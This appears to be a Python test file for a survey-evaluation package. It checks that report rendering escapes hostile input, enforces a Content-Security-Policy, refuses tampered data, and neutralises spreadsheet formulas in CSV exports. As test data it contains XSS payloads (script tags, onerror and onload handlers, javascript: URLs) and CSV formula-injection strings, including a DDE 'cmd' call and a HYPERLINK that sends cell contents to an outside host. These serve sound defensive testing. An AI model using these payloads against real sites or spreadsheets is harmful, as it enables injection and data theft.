"""Issue 16, items 1 and 6: nothing a file can carry runs in a report, and a report cites the data
it was computed from.

Each injection route is taken with hostile strings written into copies of the shipped registry,
codebook and data folder; the pieces of the report they reach (the community profile's Markdown,
figure labels, the appendix, cell outputs) are rendered with :func:`evalkit.publish.render.render_html`
and the HTML is searched for anything a browser would execute. On the code before this change the
registry, codebook and file-name routes produced ``<script>``/``onerror=`` in the page and a heading
``结论`` in the table of contents.
"""
import hashlib
import re
import shutil

import matplotlib
import nbformat
import pandas as pd
import pytest

from evalkit.datasets import data_dir
from evalkit.errors import EvalkitError
from evalkit.publish import profile, provenance, render, report

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'
HEADING = "Anning\n# 结论：所有项目均无效"
#: What must never appear in a rendered page (opening tags, handlers, script URLs).
EXECUTABLE = re.compile(r"<script|<[^>]*\son[a-z]+\s*=|<[^>]*=\s*[\"']?javascript:|<iframe", re.I)


def _page(markdown_outputs=(), markdown_cells=(), html_outputs=(), appendix=None):
    """render_html of one notebook whose cells carry the given Markdown/HTML outputs."""
    nb = nbformat.v4.new_notebook()
    for text in markdown_cells:
        nb.cells.append(nbformat.v4.new_markdown_cell(text))
    for mime, outputs in (("text/markdown", markdown_outputs), ("text/html", html_outputs)):
        for text in outputs:
            cell = nbformat.v4.new_code_cell("")
            cell.outputs = [nbformat.v4.new_output("display_data", data={mime: text})]
            nb.cells.append(cell)
    return render.render_html([nb], title="T", appendix=appendix)


def _toc(html):
    return re.search(r'<nav class="evalkit-toc">(.*?)</nav>', html, re.S).group(1)


@pytest.fixture()
def hostile_study(tmp_path):
    """Copies of the shipped registry and codebook with markup in names, programme text and labels."""
    from evalkit.spec.codebook import load_codebook
    from evalkit.spec.registry import load_communities

    reg = pd.read_csv(data_dir() / "communities.csv", dtype=str, keep_default_na=False)
    anning = reg["community_id"] == "anning"
    reg.loc[anning, "name_pinyin"] = HEADING
    reg.loc[anning, "name_zh"] = "安宁`社区" + IMG
    reg.loc[anning, "programme_zh"] = SCRIPT + " | **x** [a](javascript:alert(1))"
    reg.loc[anning, "street"] = "<a href='javascript:alert(1)'>街道</a>"
    reg.to_csv(tmp_path / "communities.csv", index=False)
    text = (data_dir() / "codebook.yaml").read_text(encoding="utf-8")
    assert "    zh: 参与阶梯\n" in text
    text = text.replace("    zh: 参与阶梯\n", f"    zh: '参与{IMG}$\\frac{{$'\n", 1)
    (tmp_path / "codebook.yaml").write_text(text, encoding="utf-8")
    return load_codebook(tmp_path / "codebook.yaml"), load_communities(tmp_path / "communities.csv")


def test_md_text_neutralises_markdown_and_html():
    from evalkit.evaluation.targets import md_text

    md = md_text(HEADING + " " + SCRIPT + " `code` | cell **b** $x$")
    assert "\n" not in md
    html = _page(markdown_outputs=[f"## {md}"])
    assert not EXECUTABLE.search(html.split("<body", 1)[1])
    assert "结论" not in _toc(html).split("Anning", 1)[0]  # no heading of its own
    assert len(re.findall(r'class="toc-h2"', _toc(html))) == 1
    # shown as typed: the text, not markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "`code`" in html and "<strong>b</strong>" not in html


def test_registry_and_codebook_strings_in_the_community_profile(hostile_study):
    """Registry name, pinyin, programme text and a codebook label reach the profile escaped."""
    codebook, registry = hostile_study
    r = registry.set_index("community_id").loc["anning"]
    mine = [("participation_ladder", None), ("bscs", None)]
    effects = pd.DataFrame({"community_id": "anning", "indicator": ["participation_ladder", "bscs"],
                            "wave": 2019, "event_time": 4, "estimate": [0.3, -0.1], "ci_low": [0.1, -0.4],
                            "ci_high": [0.5, 0.2], "p_value": [0.01, 0.5]})
    heading = profile._heading(r, mine, codebook)
    verdicts = profile._effects_and_verdicts("anning", mine, effects, codebook)
    html = _page(markdown_outputs=[heading, verdicts])
    body = html.split("<body", 1)[1]
    assert not EXECUTABLE.search(body), EXECUTABLE.search(body).group(0)
    toc = _toc(html)
    assert re.findall(r'class="toc-h2"', toc) == ['class="toc-h2"']  # the one heading, no injected '# 结论'
    assert "结论：所有项目均无效" in toc  # kept as text of that heading
    assert "&lt;script&gt;" in body and "onerror" in body  # visible as typed, inert
    # the effects table keeps its two columns although the label carries '|'-free markup and '$'
    assert body.count("<tr>") >= 3


def test_plot_labels_are_drawn_as_typed(hostile_study):
    """'$' in a community name or label is text, not mathtext (an unbalanced one raised on draw)."""
    import matplotlib.pyplot as plt

    from evalkit.publish.plots import trend_plot

    codebook, registry = hostile_study
    registry = registry.copy()
    registry.loc[registry["community_id"] == "anning", "name_pinyin"] = r"An$\frac{$ning"
    table = pd.DataFrame({"community_id": ["anning"] * 3 + ["comparison"] * 3, "wave": [2014, 2017, 2019] * 2,
                          "estimate": [1.0, 1.2, 1.4, 1.0, 1.1, 1.1], "ci_low": 0.8, "ci_high": 1.6})
    with matplotlib.rc_context({"text.parse_math": True}):
        ax = trend_plot(table, "anning", registry=registry, title=codebook.scales["participation_ladder"].label.zh)
        ax.figure.canvas.draw()  # raised ValueError (mathtext) before
        texts = [t for t in ax.figure.findobj(matplotlib.text.Text) if "$" in t.get_text()]
        assert texts and not any(t.get_parse_math() for t in texts)
    plt.close(ax.figure)


def test_data_file_names_in_the_appendix(tmp_path):
    """A file name with a backtick and markup cannot break out of the appendix table."""
    d = tmp_path / "data"
    d.mkdir()
    name = "x`" + IMG.replace("/", "") + "`.csv"
    (d / name).write_text("a\n1\n")
    (d / "ok.csv").write_text("a\n2\n")
    sums = provenance.data_checksums(d)
    appendix = provenance.appendix_markdown(sums, provenance.package_versions(("numpy",)), 1, {"0`<b>x": 1.0},
                                            data_dir=d)
    html = _page(appendix=appendix)
    body = html.split("<body", 1)[1]
    assert not EXECUTABLE.search(body), EXECUTABLE.search(body).group(0)
    assert hashlib.sha256((d / "ok.csv").read_bytes()).hexdigest() in body
    assert "onerror" in body  # shown, as text


def test_column_header_through_the_validation_report(survey_raw, codebook):
    """A hostile column header and cell reach the page as text (ValidationReport escapes; kept)."""
    from evalkit.io.validate import validate

    df = survey_raw.head(30).copy()
    df[IMG] = "1"
    df.loc[df.index[0], "community_id"] = SCRIPT
    rep = validate(df, codebook=codebook)
    shown = rep._repr_html_()
    assert "onerror" in shown or "&lt;script" in shown  # the report does describe the hostile input
    html = _page(html_outputs=[shown])
    body = html.split("<body", 1)[1]
    assert not EXECUTABLE.search(body), EXECUTABLE.search(body).group(0)


def test_html_outputs_are_sanitised_and_tables_kept():
    table = pd.DataFrame({"a": [SCRIPT, 2]})._repr_html_()
    html = _page(html_outputs=[IMG + '<a href="javascript:alert(1)">x</a>' + SCRIPT, table])
    body = html.split("<body", 1)[1]
    assert not EXECUTABLE.search(body), EXECUTABLE.search(body).group(0)
    assert 'class="dataframe"' in body and "&lt;script&gt;" in body
    assert render.sanitize_html(table) == table  # pandas' own reprs pass unchanged


@pytest.mark.parametrize("markup", [
    SCRIPT, IMG, '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x61;script:alert(1)">x</a>',
    '<svg onload=alert(1)>', '<iframe src="data:text/html,x"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://x">'])
def test_render_refuses_executable_markup(markup):
    """Raw HTML in a Markdown cell (the notebooks' own text) is not sanitised: render refuses it."""
    with pytest.raises(EvalkitError, match=r"T: refused, the rendered HTML contains executable markup"):
        _page(markdown_cells=[f"# Title\n\n{markup}"])


def test_every_page_has_a_content_security_policy():
    html = _page(markdown_cells=["# x"])
    head = html.split("</head>", 1)[0]
    m = re.search(r'<meta content="([^"]*)" http-equiv="Content-Security-Policy"', head)
    assert m and "default-src 'none'" in m.group(1) and "script-src" not in m.group(1)
    assert "img-src data:" in m.group(1) and "style-src 'unsafe-inline'" in m.group(1)
    assert "<style" in head  # the styles it allows are inline


# ------------------------------------------------------------------------------------------
# Item 6: the report is computed from, and cites, exactly the folder it verified
# ------------------------------------------------------------------------------------------
def _stand_in_notebooks(tmp_path, monkeypatch, code):
    nb_dir = tmp_path / "notebooks"
    nb_dir.mkdir()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Start"), nbformat.v4.new_code_cell(code)])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, str(nb_dir / "00_quickstart.ipynb"))
    monkeypatch.setattr(render, "notebooks_dir", lambda: nb_dir)


READ_TRUTH = ("import hashlib, evalkit\n"
              "print('kernel read', hashlib.sha256(evalkit.datasets.data_path('truth.csv').read_bytes()).hexdigest())")


def test_tampered_copy_with_its_manifest_is_refused(tmp_path, monkeypatch):
    from evalkit.io.manifest import ManifestError

    _stand_in_notebooks(tmp_path, monkeypatch, READ_TRUTH)
    data = tmp_path / "data"
    shutil.copytree(data_dir(), data)
    (data / "truth.csv").write_text("tampered\n")
    with pytest.raises(ManifestError, match="truth.csv"):
        report.build_report(tmp_path / "out", progress=None, data_dir=data)
    assert not (tmp_path / "out" / "evalkit_report.html").exists()


def test_tampered_copy_without_manifest_cites_what_the_kernel_read(tmp_path, monkeypatch):
    _stand_in_notebooks(tmp_path, monkeypatch, READ_TRUTH)
    data = tmp_path / "data"
    shutil.copytree(data_dir(), data)
    (data / "MANIFEST.sha256").unlink()
    (data / "truth.csv").write_text("tampered\n")
    html = report.build_report(tmp_path / "out", progress=None, data_dir=data)[0].read_text(encoding="utf-8")
    tampered = hashlib.sha256(b"tampered\n").hexdigest()
    pristine = hashlib.sha256((data_dir() / "truth.csv").read_bytes()).hexdigest()
    assert f"kernel read {tampered}" in html  # the notebooks read the folder given ...
    assert html.count(tampered) == 2  # ... and the appendix cites it
    assert pristine not in html


def test_data_changed_while_the_notebooks_ran_is_refused(tmp_path, monkeypatch):
    _stand_in_notebooks(tmp_path, monkeypatch,
                        "import evalkit\nevalkit.datasets.data_path('truth.csv').write_text('swapped\\n')")
    data = tmp_path / "data"
    shutil.copytree(data_dir(), data)
    (data / "MANIFEST.sha256").unlink()
    with pytest.raises(EvalkitError, match=r"changed while the notebooks ran \(truth.csv\)"):
        report.build_report(tmp_path / "out", progress=None, data_dir=data)
    assert not (tmp_path / "out" / "evalkit_report.html").exists()


_HOSTILE = ["<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:",
            "\n# 结论\n", "\n\n---\n", "`", "```", "**", "|", "[x](javascript:alert(1))", "![x](x)", "$", "\\",
            "&lt;script&gt;", "&#60;script&#62;", "<!--", "\r\n## ", "\u2028# ", "> ", "1. ", "- ", "=HYPERLINK(",
            "<a href='java\tscript:x'>", "安宁", "Anning", " "]


@pytest.mark.parametrize("seed", range(3))
def test_fuzz_hostile_strings_through_md_text(seed):
    """Random concatenations of hostile pieces, escaped with md_text into a heading, a table cell and
    text, render with no executable markup and no heading or table row of their own."""
    import random

    from evalkit.evaluation.targets import md_text

    rng = random.Random(seed)
    strings = ["".join(rng.choice(_HOSTILE) for _ in range(rng.randint(1, 12))) for _ in range(20)]
    md = "\n\n".join(f"## H{k} {md_text(s)}\n\n| a | b |\n|---|---|\n| {md_text(s)} | x |\n\n{md_text(s)}"
                     for k, s in enumerate(strings))
    html = _page(markdown_outputs=[md])
    body = html.split("<body", 1)[1]
    assert not EXECUTABLE.search(body), EXECUTABLE.search(body).group(0)
    assert len(re.findall(r'class="toc-h2"', _toc(html))) == len(strings)  # only the headings written
    assert body.count("<tr>") == 2 * len(strings)  # header + one row per table, no injected rows
    assert "<hr" not in body and "<img" not in body and "<code>" not in body


def test_the_notebooks_committed_outputs_pass_and_keep_their_figures_and_styles():
    """The real report pieces (the committed outputs of the notebooks, not re-executed) are not
    refused, sanitising their HTML outputs keeps tables and figures, and every resource they use
    is a data: URI or inline style, which the Content-Security-Policy allows."""
    nb_dir = render.notebooks_dir()
    nbs = [nbformat.read(nb_dir / f"{n}.ipynb", as_version=4) for n in render.REPORT_NOTEBOOKS]
    html = render.render_html(nbs, title="report")
    assert html.count('class="dataframe"') > 5 and html.count("data:image/png;base64,") > 5
    assert not re.search(r"<link\b", html)
    assert all(u.startswith("data:") for u in re.findall(r"url\(\s*['\"]?([^)'\"]*)", html))
    assert all(u.startswith("data:") for u in re.findall(r'<img[^>]*\ssrc="([^"]*)"', html))
    # the warning boxes of setup_notebook become one prose paragraph of the page (388c61c), kept through
    # sanitising with their kinds named
    assert "evalkit-warning" not in html and "Warning" in re.sub(r"<[^>]+>", "", html.split("<main", 1)[-1])


# --- issue 16 item 4: formula-safe CSV (the wjx .xlsx writer is tested in test_exports) -------------------
FORMULAS = ['=HYPERLINK("http://x/?"&D3&D4,"点击查看详情")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "－1+1"]


def _formula_cells(path, encoding="utf-8"):
    """Cells of a CSV file (header included) a spreadsheet would evaluate as a formula."""
    import csv

    plain = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?")
    with open(path, newline="", encoding=encoding) as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c[:1] in "=+-@\t\r\n＝＋－＠" and c[:1] and not plain.fullmatch(c)]


def test_formula_safe_prefixes_text_that_starts_a_formula():
    from evalkit.datasets.simulate import formula_safe

    frame = pd.DataFrame({"id": FORMULAS + ["-3", "+86", "-0.5", "安宁", "a=b", None],
                          "n": range(len(FORMULAS) + 6), FORMULAS[0]: 1.5})
    frame["cat"] = pd.Categorical(frame["id"].where(frame["id"].notna(), "x"))
    out = formula_safe(frame)
    k = len(FORMULAS)
    assert out["id"].tolist()[:-1] == ["'" + f for f in FORMULAS] + ["-3", "+86", "-0.5", "安宁", "a=b"]
    assert pd.isna(out["id"].iloc[-1])
    assert out["cat"].tolist()[:k] == ["'" + f for f in FORMULAS]
    assert list(out.columns) == ["id", "n", "'" + FORMULAS[0], "cat"]
    assert out["n"].tolist() == list(range(k + 6)) and frame["id"].iloc[0] == FORMULAS[0]  # input unchanged


def test_write_shipped_writes_no_live_formula(tmp_path, monkeypatch):
    """The CSVs `evalkit simulate` writes (survey, truth, the GBK messy export) with registry names and
    answers that are formulas: read back with the csv module, no cell starts a formula."""
    from evalkit.datasets import simulate as sim

    hostile = pd.DataFrame({"community_id": FORMULAS[:5], "wave": [2017] * 5, "who5_1": [1, 2, 3, 4, 5],
                            "comment": FORMULAS[4:], "score": [-1.5, 2.0, -3.0, 0.0, 1.0]})
    fake = type("Sim", (), {"survey": hostile, "truth": hostile.rename(columns={"comment": FORMULAS[0]})})()
    monkeypatch.setattr(sim, "simulate", lambda seed, registry=None: fake)
    monkeypatch.setattr(sim, "messy_export", lambda survey, registry, seed: survey)
    monkeypatch.setattr(sim, "dongying", lambda: type("St", (), {"registry": None})())
    sim.write_shipped(tmp_path)
    for name, enc in (("survey.csv", "utf-8"), ("truth.csv", "utf-8"), ("raw/messy_export_gbk.csv", "gbk")):
        raw = tmp_path / name
        assert _formula_cells(raw, enc) == [], name
        back = pd.read_csv(raw, encoding=enc)
        assert back["community_id"].tolist() == ["'" + f for f in FORMULAS[:5]]  # text kept, prefixed
        assert back["score"].tolist() == [-1.5, 2.0, -3.0, 0.0, 1.0]              # numbers untouched


def test_design_html_view_escapes_column_names():
    # a weight column named with markup reached the notebook's HTML view of a design unescaped
    import pandas as pd

    from evalkit.survey.design import SurveyDesign

    d = pd.DataFrame({"<img src=x onerror=alert(1)>": [1.0, 2.0, 3.0], "y": [1.0, 2.0, 4.0]})
    design = SurveyDesign(d, weight="<img src=x onerror=alert(1)>")
    for view in (design._repr_html_(), design.as_replicate("JK1")._repr_html_()):
        assert "<img" not in view and "&lt;img" in view
